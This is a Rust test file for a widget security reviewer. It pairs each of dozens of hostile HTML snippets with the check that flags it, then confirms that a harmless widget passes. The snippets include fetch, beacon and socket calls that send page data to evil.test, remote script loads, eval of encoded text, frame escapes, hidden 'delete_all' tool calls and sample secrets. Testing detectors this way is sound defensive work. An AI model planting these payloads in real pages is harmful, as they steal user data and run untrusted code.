//! Hostile user interfaces, each with the check that catches it, and harmless ones that pass.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test fails by panicking")]
use portcullis::kernel::contract::widget::{Allowed, Origin, Widget, review};
use portcullis::kernel::policy::flaw::{Check, Flaw, Flaws, Severity};
use serde_json::{Value, json};
use std::collections::BTreeSet;

const MIME: &str = "text/html;profile=mcp-app";

fn origins(texts: &[&str]) -> Vec<Origin> {
    texts.iter().map(|text| text.parse().unwrap()).collect()
}

/// What the policy of these tests allows.
fn allowed() -> Allowed {
    Allowed {
        connect: origins(&["https://api.good.test", "wss://api.good.test"]),
        resource: origins(&["https://cdn.good.test", "https://*.img.good.test"]),
        frame: origins(&["https://frames.good.test", "https://player.other.test"]),
        base_uri: origins(&["https://cdn.good.test"]),
        redirect: origins(&["https://www.good.test"]),
        permissions: vec!["clipboardWrite".to_owned()],
    }
}

/// What the widgets of these tests declare, where they are not about declaring.
fn declared() -> Value {
    json!({"ui": {"domain": "https://app.good.test", "csp": {
        "connectDomains": ["https://api.good.test", "wss://api.good.test"],
        "resourceDomains": ["https://cdn.good.test", "https://*.img.good.test"],
    }}})
}

fn found(uri: &str, mime: &str, html: &str, listed: Option<&Value>, read: Option<&Value>) -> Vec<Flaw> {
    let mut flaws = Flaws::default();
    let tools = BTreeSet::from(["refresh".to_owned()]);
    let widget = Widget { uri, mime, html, listed_meta: listed, read_meta: read };
    review(&widget, &allowed(), Some("mcp.good.test"), Some(&tools), "/w", &mut flaws);
    flaws.0
}

fn of_html(html: &str) -> Vec<Flaw> {
    let meta = declared();
    found("ui://good/view.html", MIME, html, Some(&meta), Some(&meta))
}

fn of_meta(listed: Option<&Value>, read: Option<&Value>) -> Vec<Flaw> {
    found("ui://good/view.html", MIME, "<p>hello", listed, read)
}

/// Its name, its HTML, the check that catches it.
const HOSTILE: &[(&str, &str, Check)] = &[
    // What is sent.
    (
        "exfiltration by fetch",
        "<script>fetch('https://evil.test/?d='+document.title)</script>",
        Check::UiConnectUndeclared,
    ),
    ("fetch over plain HTTP", "<script>fetch(\"http://api.good.test/\")</script>", Check::UiConnectUndeclared),
    ("fetch without scheme", "<script>fetch('//evil.test/x')</script>", Check::UiConnectUndeclared),
    ("fetch of a template", "<script>fetch(`https://evil.test/${secret}`)</script>", Check::UiConnectUndeclared),
    (
        "fetch by another spelling",
        r"<script>window['fe'+'tch']('\x68ttps://evil.test/')</script>",
        Check::UiConnectUndeclared,
    ),
    (
        "fetch after a pattern with quotes",
        "<script>if(a)/['\"]/.test(b);fetch('https://evil.test/')</script>",
        Check::UiConnectUndeclared,
    ),
    ("socket", "<script>new WebSocket('wss://evil.test')</script>", Check::UiConnectUndeclared),
    ("event source", "<script>new EventSource('https://evil.test/e')</script>", Check::UiConnectUndeclared),
    ("beacon", "<script>navigator.sendBeacon('https://evil.test/b', d)</script>", Check::UiConnectUndeclared),
    ("XMLHttpRequest", "<script>x.open('POST', 'https://evil.test/x')</script>", Check::UiConnectUndeclared),
    ("fetch in a handler", "<img src=data:, onerror=\"fetch('https://evil.test/')\">", Check::UiConnectUndeclared),
    ("image beacon", "<script>new Image().src='https://evil.test/?'+d</script>", Check::UiResourceUndeclared),
    ("image", "<img src=https://evil.test/x.png>", Check::UiResourceUndeclared),
    ("image by srcset", "<img srcset='data:, 1x, https://evil.test/x 2x'>", Check::UiResourceUndeclared),
    ("image of a neighbour", "<img src=https://img.good.test.evil.test/>", Check::UiResourceUndeclared),
    ("poster", "<video poster=//evil.test/x></video>", Check::UiResourceUndeclared),
    ("image in a table", "<table><img src=https://evil.test/></table>", Check::UiResourceUndeclared),
    (
        "image in a template",
        "<template><template><img src=https://evil.test/></template></template>",
        Check::UiResourceUndeclared,
    ),
    ("image in noscript", "<noscript><img src=https://evil.test/></noscript>", Check::UiResourceUndeclared),
    ("CSS url()", "<style>a[href^=s]{background:u\\72l(https://evil.test/s)}</style>", Check::UiResourceUndeclared),
    ("CSS url() in an attribute", "<p style=\"background:url('https://evil.test/s')\">", Check::UiResourceUndeclared),
    ("CSS url() in SVG", "<svg><rect fill='url(https://evil.test/#x)'/></svg>", Check::UiResourceUndeclared),
    ("CSS @import", "<style>@import 'https://evil.test/x.css';</style>", Check::UiResourceUndeclared),
    ("style sheet", "<link rel=stylesheet href=https://evil.test/x.css>", Check::UiResourceUndeclared),
    ("SVG use", "<svg><use xlink:href='https://evil.test/x.svg#a'/></svg>", Check::UiResourceUndeclared),
    ("SVG feImage", "<svg><filter><feImage href='https://evil.test/x'/></filter></svg>", Check::UiResourceUndeclared),
    ("preconnect", "<link rel=preconnect href=https://evil.test>", Check::UiConnectionHint),
    ("dns-prefetch", "<link rel=DNS-Prefetch href=//c2VjcmV0.evil.test>", Check::UiConnectionHint),
    (
        "speculation rules",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.test/\"]}]}</script>",
        Check::UiConnectionHint,
    ),
    ("ping", "<a href=# ping=https://evil.test/>x</a>", Check::UiConnectionHint),
    ("form", "<form action=https://evil.test/><input name=password></form>", Check::UiFormOutside),
    ("formaction", "<form><button formaction=https://evil.test/>x</button></form>", Check::UiFormOutside),
    ("WebRTC", "<script>new RTCPeerConnection({iceServers:[]})</script>", Check::UiChannelUngoverned),
    ("WebTransport", "<script>new WebTransport(u)</script>", Check::UiChannelUngoverned),
    // What is run.
    ("external script", "<script src=https://evil.test/x.js></script>", Check::UiScriptUndeclared),
    ("script of data", "<script src=data:text/javascript,alert(1)></script>", Check::UiScriptUndeclared),
    ("SVG script", "<svg><script xlink:href=https://evil.test/x.js></script></svg>", Check::UiScriptUndeclared),
    ("module import", "<script type=module>import x from 'https://evil.test/x.js'</script>", Check::UiScriptUndeclared),
    ("dynamic import", "<script>import('https://evil.test/x.js')</script>", Check::UiScriptUndeclared),
    (
        "import map",
        "<script type=importmap>{\"imports\":{\"a\":\"https://evil.test/a.js\"}}</script>",
        Check::UiScriptUndeclared,
    ),
    ("module preload", "<link rel=modulepreload href=https://evil.test/x.js>", Check::UiScriptUndeclared),
    ("script without integrity", "<script src=https://cdn.good.test/x.js></script>", Check::UiScriptUnpinned),
    ("eval of atob", "<script>eval(atob('YWxlcnQoMSk='))</script>", Check::UiCodeFromText),
    ("Function", "<script>new Function('return this')()</script>", Check::UiCodeFromText),
    ("constructor", "<script>[]['filter']['constructor']('alert(1)')()</script>", Check::UiCodeFromText),
    ("timer with text", "<script>setTimeout('alert(1)',1)</script>", Check::UiCodeFromText),
    ("document.write", "<script>document.write(x)</script>", Check::UiCodeFromText),
    ("javascript: link", "<a href='java&#10;script:alert(1)'>x</a>", Check::UiScriptUrl),
    ("javascript: in SVG", "<svg><a xlink:href=' javascript:alert(1)'>x</a></svg>", Check::UiScriptUrl),
    (
        "javascript: by animation",
        "<svg><a><set attributeName=href to=javascript:alert(1) /></a></svg>",
        Check::UiScriptUrl,
    ),
    ("javascript: form", "<form action=javascript:alert(1)></form>", Check::UiScriptUrl),
    ("document in a link", "<a href='data:text/html,<script>1</script>'>x</a>", Check::UiScriptUrl),
    ("handler", "<p onclick=go()>x", Check::UiInlineRule),
    // Where it goes.
    ("base", "<base href=https://evil.test/>", Check::UiBase),
    (
        "base and a relative script",
        "<base href=https://evil.test/><script src=x.js></script>",
        Check::UiScriptUndeclared,
    ),
    ("refresh", "<meta http-equiv=Refresh content='0;url=https://evil.test/'>", Check::UiNavigation),
    ("link out of the frame", "<a href=https://www.good.test target=_TOP>x</a>", Check::UiNavigation),
    ("base target", "<base target=_parent>", Check::UiNavigation),
    ("link elsewhere", "<a href=https://evil.test/>x</a>", Check::UiFrameEscape),
    ("window.top", "<script>window.top.location='https://evil.test/'</script>", Check::UiFrameEscape),
    ("top in brackets", "<script>self['top']['location']=u</script>", Check::UiFrameEscape),
    ("parent.location", "<script>parent.location.href=u</script>", Check::UiFrameEscape),
    ("opener", "<script>window.opener.postMessage(d,'*')</script>", Check::UiFrameEscape),
    ("own location", "<script>location.href='https://evil.test/?'+d</script>", Check::UiFrameEscape),
    ("any sender", "<script>addEventListener('message',e=>run(e.data))</script>", Check::UiFrameEscape),
    // What is shown within.
    ("frame", "<iframe src=https://evil.test/></iframe>", Check::UiFrameUndeclared),
    ("frame of frames", "<iframe src=https://frames.good.test/></iframe>", Check::UiFrameUndeclared),
    ("srcdoc", "<iframe srcdoc='<script>1</script>'></iframe>", Check::UiFrameUndeclared),
    ("empty frame", "<iframe></iframe>", Check::UiFrameUndeclared),
    ("object", "<object data=https://evil.test/x></object>", Check::UiFrameUndeclared),
    ("embed", "<embed src=https://evil.test/x>", Check::UiFrameUndeclared),
    ("fenced frame", "<fencedframe></fencedframe>", Check::UiFrameUndeclared),
    // What is in it.
    ("AWS key", "<script>k='AKIAIOSFODNN7EXAMPLE'</script>", Check::UiSecret),
    ("GitHub token", "<!-- ghp_0123456789abcdefghijABCDEFGHIJ012345 --><p>", Check::UiSecret),
    (
        "JSON Web Token",
        "<p data-t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9>",
        Check::UiSecret,
    ),
    (
        "private key",
        "<script>k='-----BEGIN PRIVATE KEY-----\\nMIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg\\n'</script>",
        Check::UiSecret,
    ),
    ("tags", "<p>Hello\u{E0049}\u{E0067}\u{E006E}</p>", Check::UiHiddenText),
    ("reversed text", "<p title='a&#x202e;b'>x", Check::UiHiddenText),
    ("zero-width run", "<!-- \u{200B}\u{200C}\u{200B}\u{200D} --><p>", Check::UiHiddenText),
    ("cookie", "<script>document.cookie</script>", Check::UiStateKept),
    ("storage", "<script>window.localStorage.x=1</script>", Check::UiStateKept),
    ("unseen tool", "<script>app.callServerTool({name:'delete_all',arguments:{}})</script>", Check::UiToolUnseen),
    ("unseen tool of ChatGPT", "<script>window.openai.callTool('delete_all',{})</script>", Check::UiToolUnseen),
    ("other encoding", "<meta charset=utf-7><p>", Check::WidgetUnreadable),
    ("no HTML", "hello", Check::WidgetUnreadable),
    ("NUL", "<p>\0", Check::WidgetUnreadable),
    ("own policy", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", Check::UiInlineRule),
];

#[test]
fn hostile_widgets_are_caught_by_the_check_in_the_table() {
    assert!(HOSTILE.len() >= 25);
    for (name, html, check) in HOSTILE {
        let flaws = of_html(html);
        assert!(flaws.iter().any(|flaw| flaw.check == *check), "{name}: {flaws:#?}");
    }
}

#[test]
fn hostile_origins_are_caught_by_the_check_in_the_table() {
    for (list, entry, check) in [
        ("connectDomains", "*", Check::OriginMalformed),
        ("connectDomains", "https://*", Check::OriginMalformed),
        ("connectDomains", "https://a.test; script-src *", Check::OriginMalformed),
        ("resourceDomains", "'unsafe-eval'", Check::OriginMalformed),
        ("resourceDomains", "data:", Check::OriginMalformed),
        ("connectDomains", "http://api.good.test", Check::OriginMalformed),
        ("connectDomains", "https://169.254.169.254", Check::OriginMalformed),
        ("connectDomains", "https://localhost:3000", Check::OriginMalformed),
        ("frameDomains", "https://frames.good.test/path", Check::OriginMalformed),
        ("resourceDomains", "https://*.github.io", Check::OriginShared),
        ("connectDomains", "https://*.co.uk", Check::OriginShared),
        ("resourceDomains", "https://*.oaiusercontent.com", Check::OriginShared),
        ("resourceDomains", "https://unpkg.com", Check::OriginTenants),
        ("connectDomains", "https://evil.test", Check::OriginNotAllowed),
        ("connectDomains", "https://*.good.test", Check::OriginNotAllowed),
        ("frameDomains", "https://player.other.test", Check::FrameForeign),
        ("scriptDomains", "https://cdn.good.test", Check::UiMetaMalformed),
    ] {
        let meta = json!({"ui": {"csp": {list: [entry]}}});
        let flaws = of_meta(None, Some(&meta));
        assert!(flaws.iter().any(|flaw| flaw.check == check), "{list} {entry}: {flaws:#?}");
    }
}

#[test]
fn hostile_metadata_is_caught_by_the_check_in_the_table() {
    let csp = |connect: &[&str]| json!({"ui": {"csp": {"connectDomains": connect}}});
    let (none, one) = (csp(&[]), csp(&["https://api.good.test"]));
    let openai = json!({"openai/widgetCSP": {"connect_domains": ["https://api.good.test"]}});
    let mut both = none.clone();
    both["openai/widgetCSP"] = openai["openai/widgetCSP"].clone();
    let camera = json!({"ui": {"permissions": {"camera": {}}}});
    for (name, listed, read, check) in [
        ("list and reading differ", Some(&none), Some(&one), Check::UiMetaDisagrees),
        ("list and reading differ by place", Some(&none), Some(&openai), Check::UiMetaDisagrees),
        ("both places differ", None, Some(&both), Check::CspDisagrees),
        ("a permission", None, Some(&camera), Check::PermissionNotAllowed),
        ("a list that is text", None, Some(&json!({"ui": {"csp": {"connectDomains": "*"}}})), Check::UiMetaMalformed),
        ("a policy that is text", None, Some(&json!({"ui": {"csp": "default-src *"}})), Check::UiMetaMalformed),
        ("permissions as a list", None, Some(&json!({"ui": {"permissions": ["camera"]}})), Check::UiMetaMalformed),
        ("a domain with a rule", None, Some(&json!({"ui": {"domain": "a.test; x"}})), Check::UiMetaMalformed),
        (
            "a redirect",
            None,
            Some(&json!({"openai/widgetCSP": {"redirect_domains": ["https://evil.test"]}})),
            Check::OriginNotAllowed,
        ),
        ("nothing declared", None, None, Check::UiMetaIncomplete),
    ] {
        let flaws = of_meta(listed, read);
        assert!(flaws.iter().any(|flaw| flaw.check == check), "{name}: {flaws:#?}");
    }
}

#[test]
fn other_schemes_and_types_are_no_widgets() {
    let meta = declared();
    for (uri, mime) in [
        ("https://good.test/view.html", MIME),
        ("UI://good/view.html", MIME),
        ("ui://", MIME),
        ("ui://good/../view.html", MIME),
        ("ui://good/%2e%2e/view.html", MIME),
        ("ui://good/a b", MIME),
        ("ui://good/view.html", "text/html"),
        ("ui://good/view.html", "text/html; profile=mcp-app"),
        ("ui://good/view.html", "application/xhtml+xml"),
    ] {
        let flaws = found(uri, mime, "<p>", None, Some(&meta));
        assert!(flaws.iter().any(|flaw| flaw.check == Check::WidgetForm), "{uri} {mime}");
    }
    for (uri, mime) in [("ui://good/view.html?v=2", MIME), ("ui://widget/view.html", "text/html+skybridge")] {
        assert_eq!(found(uri, mime, "<p>", None, Some(&meta)), [], "{uri} {mime}");
    }
}

/// A widget as they should be: it does much and breaks nothing.
const HARMLESS: &str = r##"<!doctype html><html><head><meta charset="UTF-8"><title>Good</title>
<link rel=preconnect href=https://cdn.good.test><link rel=stylesheet href=https://cdn.good.test/a.css>
<style>@font-face{src:url(https://cdn.good.test/f.woff2)} a{background:url("data:image/png;base64,AA==")}
b::after{content:"https://evil.test/ is text"}</style>
<script src="https://cdn.good.test/x.js" integrity="sha384-AAAA" crossorigin></script></head><body>
<img src=https://a.img.good.test/x.png srcset="https://b.img.good.test/y.png 2x"><svg xmlns="http://www.w3.org/2000/svg"
xmlns:xlink="http://www.w3.org/1999/xlink"><use href="#a"/><rect fill="url(#b)"/></svg>
<form><input name=q></form><a href=https://www.good.test/help target=_blank>Help</a> <a href=#x>x</a>
<p>Ünïcödé, שלום, 👩‍👩‍👧‍👦, 🏴󠁧󠁢󠁥󠁮󠁧󠁿 and می‌خواهم stay as they are.</p>
<script type="module">// fetch("https://evil.test") is a comment
const ns = "http://www.w3.org/2000/svg"; const r = /eval\(["']/g;
window.addEventListener("message", (e) => { if (e.source !== window.parent) return; show(e.data); });
window.parent.postMessage({ jsonrpc: "2.0", method: "ui/initialize", id: 1 }, "*");
fetch("https://api.good.test/items"); fetch(`/local/${id}`); new WebSocket("wss://api.good.test/live");
app.callServerTool({ name: "refresh", arguments: {} }); setTimeout(() => draw(), 10);
</script></body></html>"##;

#[test]
fn a_harmless_widget_has_no_finding() {
    let flaws = of_html(HARMLESS);
    assert!(flaws.is_empty(), "{flaws:#?}");
}

#[test]
fn what_a_widget_does_is_held_against_what_it_declares() {
    // The same widget, without a word of what it needs.
    let flaws = of_meta_and(HARMLESS, &json!({"ui": {"domain": "https://app.good.test", "csp": {}}}));
    let has = |check| flaws.iter().any(|flaw| flaw.check == check);
    for check in
        [Check::UiScriptUndeclared, Check::UiResourceUndeclared, Check::UiConnectUndeclared, Check::UiConnectionHint]
    {
        assert!(has(check) && check.severity() == Severity::Error, "{check}");
    }
}

fn of_meta_and(html: &str, meta: &Value) -> Vec<Flaw> {
    found("ui://good/view.html", MIME, html, None, Some(meta))
}

#[test]
fn secrets_are_not_repeated() {
    let flaws = of_html("<script>k='AKIAIOSFODNN7EXAMPLE'</script>");
    assert!(flaws.iter().all(|flaw| !flaw.message.contains("EXAMPLE")), "{flaws:#?}");
}
